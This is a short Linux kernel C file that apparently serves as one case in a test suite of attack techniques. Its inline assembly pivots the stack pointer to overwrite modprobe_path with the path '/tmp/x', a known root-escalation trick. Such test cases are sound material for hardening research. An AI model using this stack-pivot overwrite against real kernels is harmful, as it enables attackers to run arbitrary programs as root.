// SPDX-License-Identifier: GPL-2.0
/*
 * atk_pivot_pop: a stack pivot by pop %rsp: the word it pops, pushed just
 * before, is 8 bytes past modprobe_path.
 * The push then writes "/tmp/x" over modprobe_path (target=); %rsp is
 * put back after it.
 */
#include <linux/fs.h>
#include "attack.h"

static int attack(struct file *f)
{
	unsigned long evil = 0x782f706d742fUL;	/* "/tmp/x" */

	asm volatile("mov %%rsp, %%rdx\n\t"
		     "push %%rcx\n\t"
		     "pop %%rsp\n\t"
		     "push %%rax\n\t"
		     "mov %%rdx, %%rsp"
		     : : "a"(evil), "c"(target + 8) : "rdx", "memory");
	return 0;
}
